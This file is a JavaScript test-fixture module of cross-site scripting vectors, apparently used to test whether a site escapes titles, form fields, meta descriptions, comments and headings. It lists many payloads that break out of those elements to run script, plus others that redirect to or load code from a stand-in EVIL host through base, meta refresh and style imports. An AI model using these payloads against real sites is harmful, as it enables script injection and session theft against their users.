// @ts-check
/** Texts that leave a title or a field, or that are no headline at all. */
import { EVIL, RUN, vectors } from './vector.mjs';

const inTitle = (/** @type {string} */ text) => ({ careless: `<title>${text}</title>` });
const inField = (/** @type {string} */ text) => ({ careless: `<textarea>${text}</textarea>` });
const inMeta = (/** @type {string} */ text) => ({ careless: `<meta name=description content="${text}">` });
const inComment = (/** @type {string} */ text) => ({ careless: `<!-- ${text} -->` });
const inHeading = (/** @type {string} */ text) => ({ careless: `<h1>${text}</h1>` });

/** @type {import('./vector.mjs').Family} */
export default {
  name: 'titles',
  vectors: [
    ...vectors(
      {
        'end of a title': `</title><script>${RUN}</script>`,
        'end of a title in capitals': `</TITLE><script>${RUN}</script>`,
        'end of a title with a space': `</title ><img src=x onerror=${RUN}>`,
        'end of a title with a slash': `</title/><img src=x onerror=${RUN}>`,
        'end of a title, then a base': `</title><base href=${EVIL}/><script src=x.js></script>`,
        'end of a title, then a refresh': `</title><meta http-equiv=refresh content="0;url=${EVIL}/t">`,
        'end of a title, then a style': `</title><style>@import "${EVIL}/t.css"</style>`,
        'end of a title and of a head': `</title></head><body onload=${RUN}>`,
        'end of a title within words': `Council votes</title><svg/onload=${RUN}> on budget`,
      },
      inTitle,
    ),
    ...vectors({ 'end of a field': `</textarea><script>${RUN}</script>`, 'end of a field, then a picture': `</textarea><img src=x onerror=${RUN}>` }, inField),
    ...vectors(
      {
        'out of a description': `"><script>${RUN}</script>`,
        'out of a description to a refresh': `0;url=${EVIL}/m" http-equiv=refresh x="`,
      },
      inMeta,
    ),
    ...vectors({ 'end of a comment': `--><script>${RUN}</script><!--`, 'end of a comment with an exclamation': `--!><script>${RUN}</script><!--` }, inComment),
    ...vectors(
      {
        'a picture': `<img src=x onerror=${RUN}> and words`,
        'a picture without an end': `<img src=x onerror=${RUN} `,
        'markup in words': `Prices <b onmouseover=${RUN}>rise</b> again`,
        'a heading in a heading': `</h1><h1 onclick=${RUN}>x`,
        'only markup': '<b></b><script></script>',
        'only a comment': '<!-- x -->',
        'only white space and a mark': '\u00a0\u200b\ufeff.',
        'directions turned round': `\u202e\u2066<script>${RUN}</script>\u2069\u202c`,
        'directions that never end': `\u202e\u202e\u202e\u2067\u2067 <img src=x onerror=${RUN}>`,
        'controls': `a\x00b\x07c\x1bd\x7f\u0085e<img src=x onerror=${RUN}>`,
        'letters over letters': `${`e${'\u0301'.repeat(200)}`.repeat(5)}<img src=x onerror=${RUN}>`,
        'ten thousand letters': `${'a'.repeat(10_000)}<img src=x onerror=${RUN}>`,
        'ten thousand words': `${'evil '.repeat(2_000)}<img src=x onerror=${RUN}>`,
        'line feeds': `a\n\n\n<img\nsrc=x\nonerror=${RUN}>\r\nb`,
        'placeholders': `{name} {page} {count} %s \${x} {{x}} <img src=x onerror=${RUN}>`,
        'placeholders of a framework': `{{constructor.constructor('${RUN}')()}}<img src=x onerror=${RUN}>`,
        'a pattern': `$& $1 $\` <img src=x onerror=${RUN}>`,
        'private letters': `\ue000\uf8ff\u{f0000}<img src=x onerror=${RUN}>`,
        'a number': `0<img src=x onerror=${RUN}>`,
        'true': `true<img src=x onerror=${RUN}>`,
      },
      inHeading,
    ),
  ],
  runs: 29,
  shows: 32,
};
